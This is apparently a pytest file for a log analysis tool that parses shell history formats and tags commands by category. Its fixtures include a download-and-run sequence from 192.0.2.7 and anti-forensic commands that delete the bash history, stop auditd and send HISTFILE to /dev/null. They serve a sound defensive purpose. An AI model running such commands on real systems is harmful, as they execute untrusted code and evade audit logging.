"""Shell histories: times, commands of several lines, escaped bytes, and files that only look like one."""

from __future__ import annotations

import pytest

from logscope.model.source import Chunk
from logscope.parsing.format import Sample
from logscope.parsing.reader import read_chunk
from logscope.parsing.registry import detect
from tests.parsing.test_examples import events_of, read_text

TIMED = "#1767449122\nid\n#1767449130\ncat <<EOF\n  a\nEOF\nwhoami\n#1767449140\nexit\n"


def test_a_command_without_a_time_behind_one_with_a_time_is_its_own_and_stays_in_order() -> None:
    events = read_text(TIMED, "bash_history", "shell_history")
    assert [event["command"] for event in events] == ["id", "cat <<EOF\n  a\nEOF", "whoami", "exit"]
    assert [event["time_basis"] for event in events] == ["exact", "exact", "carried", "exact"]


def test_a_stamp_at_the_end_without_a_command_is_kept() -> None:
    (event,) = read_text("#1767449122", "bash_history")
    assert event["time"] == "2026-01-03T14:05:22.000000Z"
    assert event["command"] is None


def test_bytes_that_zsh_escapes_are_put_back() -> None:
    written = b": 1767449122:0;echo " + b"\xc3\x83\x80" + b" " + b"\xe3\x83\xa3\x83\xa4" + b"\n"
    (event,) = events_of(read_chunk(Chunk(1, 0, 1, written, ("zsh_history",))))
    assert event["command"] == "echo \u00e0 \u30c4"
    assert event["message"] == event["command"]


def test_editline_gives_back_what_was_typed() -> None:
    events = read_text("_HiStOrY_V2_\ndrop\\040table\\040caf\\303\\251;\n", "editline_history")
    assert [event["command"] for event in events] == ["drop table caf\u00e9;"]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        (TIMED, "bash_history"),
        (": 1767449122:0;id\n: 1767449123:0;ls\n", "zsh_history"),
        ("- cmd: id\n  when: 1767449122\n- cmd: ls\n  when: 1767449123\n", "fish_history"),
        ("cd c:\\\nGet-Process\nipconfig /all\nInvoke-WebRequest http://192.0.2.7/x -OutFile x\n.\\x.exe\n", "powershell_history"),
        ("ls -la\ncd /tmp\nwget http://192.0.2.7/x\nchmod +x x\n./x\nunknownthing --run\nexit\n", "shell_history"),
        ("_HiStOrY_V2_\nshow\\040tables;\n", "editline_history"),
    ],
)  # fmt: skip
def test_a_history_is_known_by_its_content(text: str, name: str) -> None:
    assert detect(Sample(tuple(text.splitlines()))).scores[0][0] == name


@pytest.mark.parametrize(
    "lines",
    [
        ("Jan  3 14:05:22 web1 sshd[411]: Server listening on 0.0.0.0 port 22.",) * 3,
        ("su: authentication failure", "sudo: pam_unix(sudo:auth): conversation failed"),
        ("make: Entering directory '/x'", "make: Nothing to be done"),
        ("# comment", "key = value", "other = value", "test"),
        ("INFO started", "kill of the worker failed", "ERROR no answer", "WARN slow"),
    ],
)
def test_other_files_are_no_history(lines: tuple[str, ...]) -> None:
    names = {name for name, _ in detect(Sample(lines)).scores}
    assert not {name for name in names if "history" in name and "apt" not in name}


@pytest.mark.parametrize(
    ("command", "category"),
    [
        ("FOO=1 sudo -u root passwd eve", "audit.account"),
        ("rm -f ~/.bash_history", "os.security"),
        ("sudo systemctl stop auditd", "os.security"),
        ("export HISTFILE=/dev/null", "os.security"),
    ],
)
def test_what_a_command_is_about(command: str, category: str) -> None:
    (event,) = read_text(command, "shell_history")
    assert category in event["category"]


def test_a_command_cannot_forge_a_time() -> None:
    (event,) = read_text(": 1767449122:0;echo ': 1:0;x' #1767440000", "zsh_history")
    assert event["time"] == "2026-01-03T14:05:22.000000Z"


def test_a_line_in_an_envelope_is_no_command() -> None:
    (event,) = read_text('{"time":"2026-01-03T14:05:22Z","log":"test of the worker"}', "json_lines")
    assert event["command"] is None
